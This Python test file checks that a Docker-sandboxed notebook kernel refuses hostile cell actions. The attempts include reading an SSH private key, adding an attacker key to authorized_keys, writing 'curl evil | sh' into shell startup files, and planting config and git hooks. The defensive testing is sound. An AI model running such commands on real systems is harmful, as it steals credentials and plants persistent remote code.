"""The workspace policy on the docker backend, real daemon: a notebook in the
home folder, cells trying to plant config, read the ssh key, or create dotfiles
at the top of the home (see tests/test_workspace_policy.py for bwrap)."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kernel_helpers import SandboxKernelHandle
from test_docker_kernel import docker_args
from test_workspace_policy import SECRET_KEY, STORE_RECORD, lines, make_home, try_write

CONTAINER_USER = 65534


@pytest.fixture(scope="module")
def docker_home(
    docker_client: Any, test_image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[SandboxKernelHandle, Path, Path]]:
    root = tmp_path_factory.mktemp("dockerhome")
    home, outside, env = make_home(root)
    if os.geteuid() == 0:
        # as a user's own home would be: owned by the user the containers run as
        for path in [home, *home.rglob("*")]:
            os.lchown(path, CONTAINER_USER, CONTAINER_USER)
    (root / "tmp").mkdir()
    handle = SandboxKernelHandle(home, root / "tmp", extra_args=docker_args(test_image), env=env)
    yield handle, home, outside
    handle.shutdown()


def test_docker_config_dir_write_refused_and_nothing_runs_on_restart(docker_home) -> None:
    kernel, home, outside = docker_home
    marker = outside / "config-ran"
    payload = f"open({str(marker)!r}, 'w').write('pwned')\n"
    run = kernel.run(
        try_write("/workspace/.jupyter/sandbox_kernel_config.py", payload)
        + try_write("/workspace/.ipython/profile_default/startup/00.py", payload)
    )
    assert len(lines(run, "DENIED")) == 2, run.stdout + run.stderr
    assert not (home / ".jupyter" / "sandbox_kernel_config.py").exists()
    kernel.km.restart_kernel(now=True)
    kernel.kc.wait_for_ready(timeout=120)
    assert kernel.run("print(6 * 7)").stdout.strip() == "42"
    assert not marker.exists()


def test_docker_ssh_key_hidden(docker_home) -> None:
    kernel, home, _ = docker_home
    run = kernel.run(
        "import os\n"
        "try: print('KEY', open('/workspace/.ssh/id_rsa').read())\n"
        "except OSError as e: print('NOKEY', type(e).__name__)\n"
        "try: print('LIST', os.listdir('/workspace/.ssh'))\n"
        "except OSError as e: print('LIST', [], type(e).__name__)\n"
        + try_write("/workspace/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n", "a")
    )
    assert SECRET_KEY not in run.stdout and "NOKEY" in run.stdout, run.stdout + run.stderr
    assert "LIST []" in run.stdout  # an empty tmpfs (Docker may even refuse to list it)
    assert "attacker" not in (home / ".ssh" / "authorized_keys").read_text()


def test_docker_top_level_of_home_not_creatable_but_user_files_writable(docker_home) -> None:
    kernel, home, _ = docker_home
    run = kernel.run(
        try_write("/workspace/.bash_profile", "curl evil | sh\n")
        + try_write("/workspace/.bashrc", "\ncurl evil | sh\n", "a")
        + try_write("/workspace/new.txt", "x")
        + try_write("/workspace/notes.txt", "more\n", "a")
        + try_write("/workspace/data/out.csv", "1,2\n")
        + try_write("/workspace/project/.git/hooks/pre-commit", "evil\n")
    )
    assert len(lines(run, "DENIED")) == 4, run.stdout + run.stderr
    assert len(lines(run, "WROTE")) == 2, run.stdout
    assert not (home / ".bash_profile").exists() and not (home / "new.txt").exists()
    assert (home / ".bashrc").read_text() == "# the user's bashrc\n"
    assert (home / "notes.txt").read_text() == "my notes\nmore\n"
    assert (home / "data" / "out.csv").read_text() == "1,2\n"


def test_docker_shell_manager_masks_a_repository_in_the_workspace(manager: Any, ids: tuple[str, str]) -> None:
    """The shell tool's containers (SandboxManager) get the same masks."""
    user, session = ids
    workspace = manager.workspace_for(user, session)
    git = workspace / "checkout" / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    for path in (workspace / "checkout", git, git / "hooks", git / "config"):
        os.chmod(path, 0o777 if path.is_dir() else 0o666)  # only the mount may stop the write
    code, out = manager.execute_command(
        user,
        session,
        "echo evil > checkout/.git/hooks/pre-commit; echo rc=$?; echo evil >> checkout/.git/config; echo rc=$?; "
        "echo fine > checkout/notes.txt; echo rc=$?",
    )
    assert out.count("rc=0") == 1 and out.count("rc=1") == 2, out
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "config").read_text() == "[core]\n"
    assert (workspace / "checkout" / "notes.txt").read_text() == "fine\n"


def test_docker_privacy_store_hidden_and_not_deletable(docker_home) -> None:
    """Rule 3 of the ratchet on Docker: a cell can neither read nor delete the
    store (and with it the session's level) when it lies in the workspace."""
    kernel, home, _ = docker_home
    run = kernel.run(
        "import os, shutil\n"
        "try: print('READ', open('/workspace/skdata/privacy/record.json').read())\n"
        "except OSError as e: print('NOREAD', type(e).__name__)\n"
        "try: shutil.rmtree('/workspace/skdata'); print('DELETED')\n"
        "except OSError as e: print('DENIED', type(e).__name__)\n"
    )
    assert STORE_RECORD not in run.stdout and "NOREAD" in run.stdout, run.stdout + run.stderr
    assert "DELETED" not in run.stdout
    assert (home / "skdata" / "privacy" / "record.json").read_text() == STORE_RECORD
